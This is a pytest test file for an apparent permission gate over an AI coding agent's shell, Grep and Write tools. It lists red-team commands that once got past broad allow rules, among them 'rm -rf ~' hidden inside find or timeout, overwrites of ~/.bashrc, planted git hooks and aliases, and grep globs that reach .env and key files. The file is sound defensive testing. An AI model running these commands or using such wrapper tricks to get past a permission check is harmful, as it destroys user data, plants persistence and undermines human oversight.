"""Red-team findings: protected writes that plausible allow rules used to approve.

Each command here was ALLOWED before its fix, with the user rule that matches it: the rule's
SAFE ran only the protected-paths check, and that check did not see where the write lands
(a directory destination, an archive's members, a URL's file name, git's own config) or what
a wrapper (`find -exec`, `xargs`, `timeout`) runs. Nothing here is executed.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from gatekeeper.testing import assert_decision

if TYPE_CHECKING:
    from collections.abc import Callable

    from gatekeeper.pipeline import Engine
    from gatekeeper.testing import GkEnv

RULES = [
    "Bash(cp:*)",
    "Bash(mv:*)",
    "Bash(ln:*)",
    "Bash(install:*)",
    "Bash(rsync:*)",
    "Bash(tar:*)",
    "Bash(unzip:*)",
    "Bash(cpio:*)",
    "Bash(7z:*)",
    "Bash(patch:*)",
    "Bash(git:*)",
    "Bash(curl:*)",
    "Bash(wget:*)",
    "Bash(find:*)",
    "Bash(xargs:*)",
    "Bash(timeout:*)",
    "Bash(sh:*)",
]


@pytest.fixture
def trusting(gk_env: GkEnv, make_engine: Callable[..., Engine]) -> Engine:
    """A user who allowed copying, archives, git, downloads and a few wrappers wholesale."""
    (gk_env.project / "evil").mkdir()
    (gk_env.project / "evil" / "sub").mkdir()
    (gk_env.project / "build").mkdir()
    gk_env.write_config(
        f"[permissions]\nallow = {json.dumps(RULES)}\n[reviewer]\nenabled = false\n"
    )
    return make_engine()


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        # A directory destination: the file lands at DIR/basename(source).
        ("cp evil/.bashrc ~", "GK-PROT-001"),
        ("cp evil/.bashrc ~/", "GK-PROT-001"),
        ("cp evil/.bashrc evil/.profile ~", "GK-PROT-001"),
        ("cp -t ~ evil/.bashrc", "GK-PROT-001"),
        ("cp --target-directory ~ evil/.bashrc", "GK-PROT-001"),
        ("ln -t ~ evil/.bashrc", "GK-PROT-001"),
        ("install -t ~ evil/.zshrc", "GK-PROT-001"),
        ("cp -r evil/.claude .", "GK-PROT-001"),
        # A whole tree copied into a directory that holds protected paths.
        ("cp -r evil/. ~", "GK-PROT-004"),
        ("rsync -a evil/ ~/", "GK-PROT-004"),
        ("rsync -a --delete evil/ ~", "GK-PROT-004"),
        # Archives and patches write the names they carry.
        ("tar -xf a.tar -C ~", "GK-PROT-004"),
        ("tar -C .git -xf a.tar", "GK-PROT-001"),
        ("tar xf a.tar --directory=.claude", "GK-PROT-001"),
        ("unzip -o a.zip -d ~", "GK-PROT-004"),
        ("7z x a.7z -o.git", "GK-PROT-001"),
        ("patch -p1 -d ~", "GK-PROT-004"),
        # git's own configuration and trees it creates.
        ("git config core.hooksPath evil", "GK-PROT-001"),
        ("git config --global core.pager evil", "GK-PROT-001"),
        ("git config alias.x '!sh'", "GK-PROT-001"),
        ("git -C build config core.fsmonitor x", "GK-PROT-001"),
        ("git clone https://example.com/x ~/.claude", "GK-PROT-001"),
        ("git clone https://example.com/x .git/hooks", "GK-PROT-001"),
        # Downloads named after the URL.
        ("curl -O https://example.com/.envrc", "GK-PROT-001"),
        ("curl -O --output-dir ~ https://example.com/.bashrc", "GK-PROT-001"),
        ("wget -P ~ https://example.com/.bashrc", "GK-PROT-001"),
        # What a rule-approved wrapper runs.
        ("find . -name x -exec sed -i s/a/b/ ~/.bashrc ;", "GK-PROT-001"),
        ("find . -exec rm -rf ~ +", "GK-PROT-004"),
        ("timeout 5 rm -rf ~", "GK-PROT-004"),
        ("xargs -I{} cp {} .git/hooks/pre-commit", "GK-PROT-001"),
        ("sh -c 'echo x >> ~/.bashrc'", "GK-PROT-001"),
        ("timeout 5 sh -c 'cp evil/.bashrc ~'", "GK-PROT-001"),
    ],
)
def test_allow_rules_do_not_approve_protected_landings(
    trusting: Engine, command: str, rule: str
) -> None:
    assert_decision(trusting, command, expected="ask", rule=rule)


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("tar xf a.tar", "GK-PROT-004"),
        ("unzip a.zip", "GK-PROT-004"),
        ("cpio -idm", "GK-PROT-004"),
        ("patch -p1", "GK-PROT-004"),
        ("cp evil/.* ~", "GK-PROT-004"),
        ("curl -OJ https://example.com/x", "GK-PROT-004"),
        ("ls | xargs rm", "GK-PROT-005"),
    ],
)
def test_unknown_names_below_a_protected_tree_are_not_approved_by_rules(
    trusting: Engine, command: str, rule: str
) -> None:
    """Names the gate cannot see (archive members, globs, server names) go to review."""
    assert_decision(trusting, command, expected="ask", rule=rule)


@pytest.mark.parametrize(
    "command",
    [
        "cp evil/notes.txt build",
        "cp evil/notes.txt build/",
        "cp -r evil build",
        "rsync -a evil/ build/",
        "tar -xf a.tar -C build",
        "unzip a.zip -d build",
        "tar -tf a.tar",
        "unzip -l a.zip",
        "git config --get user.name",
        "git config user.name",
        "git config --list",
        "git clone https://example.com/x.git",
        "git clone https://example.com/x build/x",
        "curl -O https://example.com/tool.tar.gz",
        "wget https://example.com/tool.tar.gz",
        "find . -name '*.py' -exec grep -n TODO {} ;",
        "timeout 5 ls",
        "ls | xargs grep foo",
        "sh -c 'ls build'",
    ],
)
def test_ordinary_uses_stay_allowed(trusting: Engine, command: str) -> None:
    assert_decision(trusting, command, expected="allow", rule="GK-RULE-001")


@pytest.mark.parametrize("glob", [".env", "**/.env*", "*.pem", "{*.py,.env}", "id_rsa"])
def test_grep_globs_that_select_credential_files_ask(
    make_engine: Callable[..., Engine], glob: str
) -> None:
    """ripgrep's globs override its ignore rules: `glob: .env` prints the hidden `.env`."""
    assert_decision(
        make_engine(),
        tool="Grep",
        tool_input={"pattern": "KEY", "path": ".", "glob": glob},
        expected="ask",
        rule="GK-PROT-002",
    )


@pytest.mark.parametrize("glob", ["*.py", "**/*.ts", "*", "!.env"])
def test_ordinary_grep_globs_stay_allowed(make_engine: Callable[..., Engine], glob: str) -> None:
    assert_decision(
        make_engine(),
        tool="Grep",
        tool_input={"pattern": "KEY", "path": ".", "glob": glob},
        expected="allow",
    )


@pytest.mark.parametrize(
    "path", [".Claude/settings.json", ".GIT/hooks/pre-commit", ".claude/Settings.local.json"]
)
def test_protected_names_are_case_blind(make_engine: Callable[..., Engine], path: str) -> None:
    """On macOS `.Claude/settings.json` is Claude Code's own settings file."""
    assert_decision(
        make_engine(),
        tool="Write",
        tool_input={"file_path": path, "content": "{}"},
        expected="ask",
        rule="GK-PROT-001",
    )


def test_bypass_mode_sees_what_a_wrapper_runs(make_engine: Callable[..., Engine]) -> None:
    decision = assert_decision(
        make_engine(), "find . -exec rm -rf ~ +", expected="ask", mode="bypassPermissions"
    )
    assert decision.rule == "GK-PROT-004"
